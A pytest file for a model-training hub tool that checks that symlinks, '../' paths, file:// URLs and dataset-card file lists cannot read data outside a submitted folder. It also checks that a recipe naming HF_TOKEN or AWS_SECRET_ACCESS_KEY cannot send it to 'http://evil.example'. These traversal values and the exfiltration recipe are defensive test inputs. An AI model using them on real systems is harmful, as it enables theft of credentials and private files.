"""Runs, checkpoints and datasets that somebody sends: no path in them leads out of their folder."""

import json
from pathlib import Path
from types import SimpleNamespace

import pytest

from plum_hub import recipe as recipes
from plum_hub.errors import InstructionsError, PlumError, RunError, TrainingError
from plum_hub.instructions.hub import read_folder
from plum_hub.publishing.model_checkpoint import open_checkpoint
from plum_hub.records import Drop, Sample
from plum_hub.release.manifest import FileEntry
from plum_hub.run import Run
from plum_hub.verification.files import check_files
from plum_hub.verification.findings import Findings
from tests.training.records import TRAINING


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file of the user, with a last line that has no end: a run would cut it."""
    path = tmp_path / "mine.jsonl"
    path.write_text('{"prompt": "my own secret"}')
    return path


@pytest.fixture
def run(tmp_path: Path) -> Path:
    recipe = recipes.compose(None, "options", {"policy": {"type": "scripted", "model": "answers.jsonl"}}, []).filled()
    return Run.create(tmp_path / "sent" / "run", recipe).folder


@pytest.mark.parametrize("place", ["shards/00000/samples.jsonl", "shards/00000", "releases.jsonl", "a/b/c"])
def test_a_run_with_a_link_out_of_it_is_not_opened(run: Path, secret: Path, place: str) -> None:
    path = run / place
    if path.is_dir():
        path.rmdir()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(secret if path.suffix else secret.parent)
    for use in (Run.open, Run.donor):
        with pytest.raises(RunError, match="is a link out of the run"):
            use(run)
    assert secret.read_text() == '{"prompt": "my own secret"}'


def test_a_link_within_a_run_does_no_harm(run: Path) -> None:
    (run / "latest").symlink_to(run / "shards")
    (run / "gone").symlink_to(run / "nothing")
    assert list(Run.open(run).rows(Sample)) == list(Run.open(run).rows(Drop)) == []


def test_a_checkpoint_with_a_link_out_of_it_is_not_published(tmp_path: Path, secret: Path) -> None:
    folder = tmp_path / "checkpoint"
    folder.mkdir()
    (folder / "training.json").write_text(json.dumps(TRAINING))
    (folder / "adapter_model.safetensors").write_bytes(b"")
    open_checkpoint(folder, None)
    (folder / "tokenizer.json").symlink_to(secret)
    with pytest.raises(TrainingError, match=r"tokenizer\.json: is a link out of the checkpoint"):
        open_checkpoint(folder, None)


@pytest.mark.parametrize(
    "files",
    [
        "../mine.jsonl", "{secret}", "data/../../mine.jsonl", "https://127.0.0.1:1/x.jsonl", "file://{secret}",
        "[{{split: train, path: ../mine.jsonl}}]", "{{train: ['data/x.jsonl', '../*.jsonl']}}", "hf://datasets/a/b/x",
    ],
)  # fmt: skip
def test_a_dataset_whose_card_names_files_elsewhere_is_not_read(tmp_path: Path, secret: Path, files: str) -> None:
    folder = tmp_path / "dataset"
    (folder / "data").mkdir(parents=True)
    (folder / "data" / "x.jsonl").write_text('{"prompt": "theirs"}\n')
    files = files.format(secret=secret)
    (folder / "README.md").write_text(f"---\nconfigs:\n- config_name: default\n  data_files: {files}\n---\n")
    with pytest.raises(InstructionsError, match="data outside itself"):
        list(read_folder(folder, "sent/rows"))


def test_a_dataset_in_the_cache_of_a_hub_is_read_through_its_links(tmp_path: Path) -> None:
    blobs, folder = tmp_path / "blobs", tmp_path / "snapshots" / "commit"
    blobs.mkdir()
    (folder / "data").mkdir(parents=True)
    (blobs / "1").write_text('{"prompt": "theirs"}\n')
    (folder / "data" / "train.jsonl").symlink_to(blobs / "1")
    (folder / "README.md").write_text("---\nconfigs:\n- config_name: a\n  data_files: data/*.jsonl\n---\n")
    assert [row for _, row in read_folder(folder, "sent/rows")] == [{"prompt": "theirs"}]


@pytest.mark.parametrize("path", ["../mine.jsonl", "{secret}", "a/../../mine.jsonl"])
def test_a_manifest_that_names_files_elsewhere_opens_none_of_them(tmp_path: Path, secret: Path, path: str) -> None:
    folder = tmp_path / "release"
    folder.mkdir()
    entry = FileEntry(path=path.format(secret=secret), size=1, sha256="0" * 64, rows=1)
    findings = Findings()
    check_files(folder, SimpleNamespace(files=[entry]), findings)  # type: ignore[arg-type]
    assert "not there" in str(vars(findings))
    assert "my own" not in str(vars(findings))


@pytest.mark.parametrize("value", ["HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "AWS_SECRET_ACCESS_KEY"])
def test_a_recipe_cannot_send_the_token_of_the_hub_to_a_server_of_its_own(value: str) -> None:
    text = f"policy: {{type: openai, model: m, base_url: 'http://evil.example/v1', api_key_env: {value}}}"
    with pytest.raises(PlumError, match="api_key_env"):
        recipes.compose(text, "recipe.yaml", {}, [])
    text = text.replace("http://evil.example", "https://router.huggingface.co")
    if value.startswith("H"):
        recipes.compose(text, "recipe.yaml", {}, [])
